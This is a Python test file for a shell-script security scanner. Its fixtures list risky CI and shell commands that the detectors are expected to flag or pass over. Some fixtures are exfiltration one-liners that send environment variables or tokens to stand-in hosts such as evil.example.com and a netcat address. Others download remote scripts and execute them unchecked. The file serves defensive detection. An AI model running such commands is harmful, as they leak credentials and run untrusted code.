"""What is looked for in scripts beside what they download: secrets that get out, and trust that nothing earns."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrail.formats.shell import DETECTIONS
from guardrail.formats.shell_commands import heredocs, parsed

FIND = dict(DETECTIONS)

FOUND = {
    "prints_secret": [
        'echo "$(echo $TOKEN)"', 'echo "$(mask "$A") $TOKEN"', "echo $(base64 <<< $TOKEN)", 'echo "$((1 + 2)) $TOKEN"',
        'echo "a) $(cat x) ($TOKEN)"', 'echo "$(echo "$(date)" "$TOKEN")"', "kubectl get pod $TOKEN\necho $TOKEN",
        "echo $GOOGLE_APPLICATION_CREDENTIALS_JSON",
        "Write-Host $env:API_TOKEN",
        "Write-Output \"key: ${env:API_KEY}\"",
        "secret=web-tls\nsecret=$(openssl rand -hex 8)\necho $secret",
        "token=h8Jk2LmP9qXz4Rt6\necho $token",
        "echo $CI_JOB_TOKEN",
        'Write-Host "the token is $($token)."',
        "echo \"pw: ${DB_PASSWORD}\"",
        "echo $API_KEY | base64",
        "if x; then echo \"$GH_TOKEN\"; fi",
        "echo \"${{ secrets.DEPLOY_TOKEN }}\"",
        "printf \"%s\\n\" \"$SECRET\" >&2",
        "echo \"$TOKEN\" | rev",
    ],
    "prints_environment": [
        "env",
        "printenv | sort",
        "make; env",
        "set -e\nprintenv\n",
        "export -p",
        "sudo env",
    ],
    "sends_secret": [
        "curl -d \"$(env)\" https://evil.example.com",
        "env | curl --data-binary @- https://x.example.org",
        "curl -H \"Authorization: Bearer $API_TOKEN\" http://api.acme.com/x",
        "curl https://webhook.site/abc?t=$CI_JOB_TOKEN",
        "cat /x; printenv | nc 203.0.113.5 4444",
        "curl -X POST --data \"t=$CI_JOB_TOKEN\" https://34.1.2.3/x",
    ],
    "plain_transport": [
        "wget http://get.example.org/x.tgz",
        "curl http://x.example.org/x.tgz -o x.tgz",
        "curl -L http://x.example.org/x | tar xz",
        "git clone http://git.example.org/a.git",
        "pip install --index-url http://pypi.example.org/simple x",
        "npm install --registry http://npm.example.org",
        "curl -O http://a.example.com/b",
    ],
    "privileged_container": [
        "docker run --rm --privileged x",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock x",
        "sudo docker run --cap-add=SYS_ADMIN x",
        "docker run -v /:/host x",
    ],
    "unlocked_install": [
        "npm install",
        "npm i --silent",
        "cd web && npm install --prefix app",
        "npm update",
        "composer update",
        "npm install 2>&1",
        "yarn install --no-lockfile",
        "npm install || exit 1",
        "(cd x && npm install)",
        "uv lock --upgrade",
    ],
    "stored_cloud_key": [
        "aws configure set aws_secret_access_key \"$KEY\"",
        "gcloud auth activate-service-account --key-file key.json",
        "az login --service-principal -u \"$A\" -p \"$B\" --tenant t",
        "export AWS_SECRET_ACCESS_KEY=$K",
        "export AWS_ACCESS_KEY_ID=$I AWS_SECRET_ACCESS_KEY=$K",
    ],
    "runs_unchecked": [
        "curl -o x https://a.io/x && chmod +x x",
        "wget https://a.io/x; chmod 755 x",
        "wget -qO bin/x 'https://a.io/y?z=1'\nmake\nchmod a+rx ./bin/x",
        "curl -sL https://a.io/x > /usr/local/bin/x\nsudo chmod -v 0755 \"/usr/local/bin/x\"",
        "curl --output=x https://a.io/y; chmod u=rwx x",
        "curl -LO https://a.io/b/x; chmod +x x",
        "curl -o x https://a.io/x; chmod u+x,g+x x",
        "curl -o x.sh https://a.io/x && bash x.sh",
        "wget -O \"$T/x.sh\" https://a.io/x && sudo sh -eux \"$T/x.sh\" -y",
        "curl -s https://a.io/x > x; . ./x",
        "curl -O https://a.io/get.py; python3 -W ignore get.py",
        "curl -Lo x.jar https://a.io/x; java -Xmx1g -jar x.jar",
        "wget https://a.io/x.deb; apt-get install -y ./x.deb",
        "wget https://a.io/x.rpm; sudo rpm -Uvh x.rpm",
        "curl -LO \"https://a.io/$(curl -s https://a.io/v)/x\"; sudo install -o root -m 0755 x /bin/x",
        "curl -L https://a.io/y | sudo tee /bin/x; chmod +x /bin/x",
        "curl -o x https://a.io/x; mv x y; chmod +x y",
        "$ProgressPreference = 0; iwr https://a.io/x -OutFile $t\\x.ps1\n& $t\\x.ps1",
        "(New-Object Net.WebClient).DownloadFile('https://a.io/x', 'C:\\x.msi'); msiexec /i C:\\x.msi",
        "pwsh -NoProfile -ExecutionPolicy Bypass -File x.ps1; iwr https://a.io/x -OutFile x.ps1; pwsh -ep Bypass x.ps1",
    ],
    "uses_retired": [
        "login $CI_JOB_JWT_V2",
        "echo \"::set-output name=a::b\"",
        "echo ${CI_BUILD_REF}",
        "echo \"::add-path::/x\"",
    ],
    "sets_secret": [
        "echo \"##vso[task.setvariable variable=a;issecret=true]b\"",
    ],
}

NOT_FOUND = {
    "prints_secret": [
        'echo "K=$(mask "$AWS_SECRET_ACCESS_KEY")"', 'echo "$(./login --token "$TOKEN" | jq .id) $(date)"',
        'echo "$(f "$(g $TOKEN)" (h) $TOKEN) done"', "echo $(login $TOKEN",
        'kubectl -n x get secret "$PULL_SECRET"\necho "no $PULL_SECRET"',
        "oc create secret generic ${SECRET}\necho $SECRET",
        'echo "no file at ${GOOGLE_APPLICATION_CREDENTIALS}"',
        "Write-Host $env:TOKEN.Length",
        "Write-Host $env:TOKEN_FILE",
        "echo \"$PW_PASSWORD\" | docker login --password-stdin",
        "echo $KEY_SECRET > f",
        "echo \"$TOKEN\" >> x",
        "echo $TOKEN | base64 > x",
        "echo $TOKEN_FILE",
        'Write-Host "a token of $($token.Length) characters"',
        "echo '$TOKEN'",
        "echo \"::add-mask::$TOKEN\"",
        "cat <<EOF > f\necho $TOKEN\nEOF",
        "echo ${#TOKEN}",
        "echo ${TOKEN:+set}",
        "echo $TOKEN | base64 -d > x",
        "X=$(echo $TOKEN | base64)",
        "{ echo \"a $TOKEN\"; } > f",
        "echo \"\\$TOKEN\"",
        "echo \"::stop-commands::$(echo -n \"${GITHUB_TOKEN}\" | sha256sum | head -c 64)\"",
        "echo \"$SSH_PRIVATE_KEY\" | tr -d \"\\r\" | ssh-add -",
        "echo $AWS_ACCESS_KEY_ID",
        "echo \"is TOKEN\"",
        "echo \"$DIFF_TOKEN_EST of $MAX_TOKENS\"",
        "cookie_secret=oauth2-proxy-cookie-secret\necho \"updating $cookie_secret\"",
        "SECRET=\"web-tls\"; kubectl get secret $SECRET; echo \"there is ${SECRET}\"",
    ],
    "prints_environment": [
        "env X=1 make",
        "cat .env",
        "env | grep FOO",
        "printenv > f",
        "printenv PATH",
        "cp .env x",
        "env | sort > f",
        "/usr/bin/env bash",
    ],
    "sends_secret": [
        "curl -H \"Authorization: Bearer $API_TOKEN\" https://api.acme.com/x",
        "curl -H \"X: $TOKEN\" http://localhost:80",
        "curl -u a:$PASSWORD http://$HOST/x",
        "curl \"https://api.github.com\" -H \"t: $TOKEN\"",
        "curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/x\"",
        "curl -d \"p=$PASSWORD\" http://db:9200/",
    ],
    "plain_transport": [
        "curl http://localhost:8080/x -o f",
        "curl -f http://example.com/health",
        "wget -q --spider http://x.example.com",
        "curl -o /dev/null http://a.example.com",
        "wget http://a.example.com/x.tgz && sha256sum -c x",
        "curl http://api:80/x > f",
        "wget -O - http://a.example.com/x",
        "echo \"see http://x.example.com\"",
        "git clone https://x.example.com",
    ],
    "privileged_container": [
        "docker run --rm x",
        "docker run --rm --privileged multiarch/qemu-user-static --reset -p yes",
        "docker build .",
        "docker run -v /data:/data x",
    ],
    "unlocked_install": [
        "npm ci",
        "npm install -g yarn",
        "npm install left-pad",
        "npm run install",
        "yarn install --frozen-lockfile",
        "npm --version",
        "pnpm install",
        "npm install --global x",
        "npm install --prefix x ci-tool",
        "uv lock --upgrade-package prowler",
    ],
    "stored_cloud_key": [
        "az login --service-principal -u \"$A\" --federated-token \"$T\" --password x",
        "aws configure set region eu-central-1",
        "export AWS_SECRET_ACCESS_KEY=$K\nexport AWS_SESSION_TOKEN=$T",
        "CREDS=$(aws sts assume-role)\nexport AWS_SECRET_ACCESS_KEY=$(echo $CREDS | jq .x)",
    ],
    "runs_unchecked": [
        "curl -o x https://a.io/x && sha256sum -c x.sum && chmod +x x",
        "curl -o x https://a.io/x && chmod +x y",
        "curl -o x https://a.io/x && chmod 644 x",
        "curl -o x https://a.io/x && chmod -x x",
        "curl -sL https://a.io/x.tgz | tar xz && chmod +x x",
        "chmod +x x && curl -o x https://a.io/x",
        "curl -o x https://raw.githubusercontent.com/a/b/" + "a1" * 20 + "/x && chmod +x x",
        "echo curl -o x https://a.io/x; chmod +x x",
        "curl -o x.json https://a.io/x && python run.py x.json",
        "curl -o x.py https://a.io/x && python -m json.tool x.py",
        "curl -o x.sh https://a.io/x && bash -c 'cat x.sh'",
        "curl -s https://a.io/run.sh | grep x; bash run.sh",
        "wget -qO- https://a.io/x | jq .; ./x",
        "curl -o x https://a.io/x; install -m 644 x /etc/x",
        "curl -o x.jar http://localhost:8080/x.jar; java -jar x.jar",
        "curl -o x https://a.io/x; gh attestation verify x -R a/b; chmod +x x",
        "wget https://a.io/jq; apt-get install jq",
    ],
    "uses_retired": [
        "echo $CI_BUILD_NUMBER",
        "echo \"::warning ::set-output is going\"",
        "echo $CI_JOB_JWT_FILE",
        "Foo::set_output name=x",
        "make\n  # echo \"::set-env name=A::b\"",
    ],
    "sets_secret": [
        "echo \"##vso[task.setvariable variable=a]b\"",
    ],
}


@pytest.mark.parametrize(("field", "code"), [(field, code) for field, codes in FOUND.items() for code in codes])
def test_found(field: str, code: str) -> None:
    where = FIND[field](code)
    assert where is not None
    assert 0 <= where[0] < where[1] <= len(code)


@pytest.mark.parametrize(("field", "code"), [(field, code) for field, codes in NOT_FOUND.items() for code in codes])
def test_not_found(field: str, code: str) -> None:
    assert FIND[field](code) is None


def test_the_place_is_that_of_the_command() -> None:
    code = "set -e\nmake\necho $API_TOKEN | base64\nmake install"
    where = FIND["prints_secret"](code)
    assert where is not None
    assert code[slice(*where)].strip() == "echo $API_TOKEN | base64"


def test_documents_handed_to_a_command_are_none() -> None:
    code = "cat <<EOF > a\nenv\nEOF\nmake\ncat <<-'X'\n  y\n  X\n"
    assert [code[slice(*where)].strip() for where in heredocs(code)] == ["env", "y"]
    assert heredocs("cat <<EOF\nnever closed") == [(9, 22)]


WORDS = st.sampled_from(
    ["echo ", "$TOKEN", "curl ", "http://a.example.com/x", " | ", " > ", "\n", "'", '"', "npm ", "install",
     "docker run ", "--privileged", "<<EOF\n", "EOF\n", "$(", ")", "env", "\\", "{ ", "} "]
)  # fmt: skip


@given(st.lists(WORDS, max_size=25).map("".join))
def test_no_text_is_too_odd(code: str) -> None:
    parsed(code)
    for find in FIND.values():
        where = find(code)
        assert where is None or 0 <= where[0] <= where[1] <= len(code)
